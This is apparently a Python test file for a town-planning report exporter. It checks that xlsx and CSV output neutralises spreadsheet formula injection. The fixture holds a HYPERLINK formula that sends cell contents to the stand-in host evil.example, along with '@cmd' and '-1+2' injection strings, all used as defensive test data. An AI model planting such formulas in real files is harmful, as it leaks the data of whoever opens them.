"""A report's .xlsx and CSV files hold stored text as text: never a live formula."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

from townplan.model.money import Money
from townplan.reports.table import Column, Kind, Report, Table

EVIL = '=HYPERLINK("http://evil.example/?d="&A3,"点击查看")'


def report() -> Report:
    columns = (
        Column("name", "项目名称", "Project", Kind.TEXT),
        Column("plan", "计划", "Plan", Kind.MONEY),
    )
    rows = ((EVIL, Money.parse("10万")), ("@cmd", Money.parse("1万")), ("-1+2", Money.zero()))
    table = Table("projects", "项目", "Projects", columns, rows)
    return Report("demo", "示例", "Demo", date(2013, 6, 30), (), (table,))


def test_report_xlsx_has_no_formula(tmp_path: Path) -> None:
    path = report().to_xlsx(tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))
    assert "<f>" not in xml
    assert "HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A3" in xml or (
        'HYPERLINK("http://evil.example/?d="&amp;A3' in xml
    )


def test_report_csv_neutralises_formula_text(tmp_path: Path) -> None:
    (path,) = report().to_csv(tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        names = [row[0] for row in csv.reader(handle)][1:]
    assert names == ["'" + EVIL, "'@cmd", "'-1+2"]
